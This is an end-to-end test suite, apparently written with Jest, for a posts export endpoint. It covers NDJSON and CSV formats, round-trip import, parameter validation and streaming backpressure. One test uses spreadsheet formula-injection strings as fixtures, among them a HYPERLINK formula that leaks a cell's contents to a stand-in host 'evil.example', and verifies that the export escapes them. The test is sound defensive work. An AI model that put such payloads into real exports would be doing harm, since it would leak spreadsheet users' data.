import { request as httpRequest, IncomingMessage } from 'node:http';
import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { sleep } from '../utils/net';
import { startTestApp, TestApp } from '../utils/test-app';
import { importCsv, PostRow, rowsDigest, storedPosts, toCsv, trickyRows } from './csv-fixtures';
import { runningExports } from './running-exports';

async function eventually(check: () => Promise<boolean>, timeoutMs = 5_000): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (await check()) return true;
    await sleep(50);
  }
  return check();
}

/** Starts a GET and resolves with the response once its first body chunk arrived, then paused. */
function firstChunkOf(url: string) {
  return new Promise<{ response: IncomingMessage; destroy: () => void }>((resolve, reject) => {
    const request = httpRequest(url, (response) => {
      response.once('data', () => {
        response.pause();
        resolve({ response, destroy: () => request.destroy() });
      });
    });
    request.on('error', reject);
    request.end();
  });
}

describe('GET /api/posts/export (e2e)', () => {
  let t: TestApp;
  let dataSource: DataSource;
  let authorId: number;
  let authorIds: number[];
  const rows: PostRow[] = trickyRows(5_000);

  beforeAll(async () => {
    t = await startTestApp({ SHED_EVENT_LOOP_DELAY_MS: '0' });
    dataSource = t.app.get(DataSource);
    const author = await t.api.createUser();
    authorId = author.id;
    expect((await importCsv(t.api, author.token, toCsv(rows))).body.imported).toBe(rows.length);
    authorIds = (
      (await dataSource.query(`SELECT id FROM posts WHERE author_id = $1 ORDER BY id`, [
        authorId,
      ])) as { id: number }[]
    ).map((row) => row.id);
  });
  afterAll(() => t.close());

  it('NDJSON: every post of the author exactly once, oldest first, as the API serves a post', async () => {
    const res = await t.api.get(`/api/posts/export?format=ndjson&authorId=${authorId}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/x-ndjson');
    expect(res.text.endsWith('\n')).toBe(true);
    const posts = res.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(posts.map((post) => post.id)).toEqual(authorIds);
    expect(posts.map((post): PostRow => [post.title, post.body])).toEqual(rows);
    expect(posts[7]).toEqual((await t.api.get(`/api/posts/${authorIds[7]}`)).body);
  });

  it('CSV: a header row, then every post exactly once with fields quoted as needed', async () => {
    const res = await t.api.get(`/api/posts/export?format=csv&authorId=${authorId}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.text.slice(0, res.text.indexOf('\n'))).toBe(
      'id,authorId,title,body,version,createdAt,updatedAt',
    );
    const records = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(records.map((record) => Number(record.id))).toEqual(authorIds);
    expect(records.map((record): PostRow => [record.title, record.body])).toEqual(rows);
    expect(new Set(records.map((record) => record.authorId))).toEqual(new Set([`${authorId}`]));
  });

  it('the CSV export imports back as the same posts', async () => {
    const exported = await t.api.get(`/api/posts/export?format=csv&authorId=${authorId}`);
    const other = await t.api.createUser();
    const res = await importCsv(t.api, other.token, exported.text);
    expect(res.body).toEqual({ imported: rows.length, failed: 0, errors: [] });
    expect(await storedPosts(dataSource, other.id)).toEqual({
      count: rows.length,
      digest: rowsDigest(rows),
    });
  });

  it('CSV: escapes cells a spreadsheet would run as formulas, and imports them back exactly', async () => {
    const author = await t.api.createUser();
    const formulas: PostRow[] = [
      ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '=1+1'],
      ['+SUM(1,2)', '-2+3'],
      ['@SUM(A1:A2)', '\tindented'],
      ["'quoted", "''twice"],
      ['\rcarriage', "'=already escaped by hand"],
      ['plain = safe', 'a-b@c'],
    ];
    for (const [title, body] of formulas) {
      await t.api.post('/api/posts', { title, body }, { token: author.token });
    }
    const exported = await t.api.get(`/api/posts/export?format=csv&authorId=${author.id}`);
    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
    expect(records.map((record) => [record.title, record.body])).toEqual([
      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`, "'=1+1"],
      ["'+SUM(1,2)", "'-2+3"],
      ["'@SUM(A1:A2)", "'\tindented"],
      ["''quoted", "'''twice"],
      ["'\rcarriage", "''=already escaped by hand"],
      ['plain = safe', 'a-b@c'],
    ]);
    const ndjson = await t.api.get(`/api/posts/export?format=ndjson&authorId=${author.id}`);
    expect(
      ndjson.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).title),
    ).toEqual(formulas.map(([title]) => title));

    const other = await t.api.createUser();
    expect((await importCsv(t.api, other.token, exported.text)).body).toEqual({
      imported: 6,
      failed: 0,
      errors: [],
    });
    expect(await storedPosts(dataSource, other.id)).toEqual({
      count: 6,
      digest: rowsDigest(formulas),
    });
  });

  // The whole table: on the shared server database that is every post of every run so far.
  it('without authorId: every post once, in id order', async () => {
    const response = await fetch(new URL('/api/posts/export', t.url));
    expect(response.status).toBe(200);
    const seen = new Set<number>();
    let previous = 0;
    let outOfOrder = 0;
    let pending = '';
    const decoder = new TextDecoder();
    for await (const chunk of response.body!) {
      const lines = (pending + decoder.decode(chunk, { stream: true })).split('\n');
      pending = lines.pop()!;
      for (const line of lines) {
        const { id } = JSON.parse(line) as { id: number };
        if (id <= previous) outOfOrder += 1;
        previous = id;
        seen.add(id);
      }
    }
    expect(pending).toBe('');
    expect(outOfOrder).toBe(0);
    expect(authorIds.filter((id) => !seen.has(id))).toEqual([]);
  }, 180_000);

  it.each([
    ['an unknown format', 'format=xml'],
    ['an empty format', 'format='],
    ['a non-numeric authorId', 'authorId=abc'],
    ['a hexadecimal authorId', 'authorId=0x10'],
    ['authorId 0', 'authorId=0'],
    ['an unknown parameter', 'limit=5'],
  ])('400 for %s', async (_, query) => {
    const res = await t.api.get(`/api/posts/export?${query}`);
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ statusCode: 400, requestId: expect.any(String) });
  });

  it('a client that stops reading pauses the query; one that goes away stops it', async () => {
    const bulk = await t.api.createUser();
    // 60 MB of posts: more than every buffer between the cursor and the client.
    await dataSource.query(
      `INSERT INTO posts (author_id, title, body)
       SELECT $1, 'bulk ' || g, repeat('x', 2000) FROM generate_series(1, 30000) g`,
      [bulk.id],
    );
    const { response, destroy } = await firstChunkOf(
      `${t.url}/api/posts/export?authorId=${bulk.id}`,
    );
    expect(response.statusCode).toBe(200);
    await sleep(1_000);
    expect(await runningExports(dataSource)).toBe(1);

    destroy();
    expect(await eventually(async () => (await runningExports(dataSource)) === 0)).toBe(true);
    const again = await t.api.get(`/api/posts/export?authorId=${bulk.id}&format=csv`);
    expect(again.text.trimEnd().split('\n')).toHaveLength(30_001);
  }, 60_000);
});
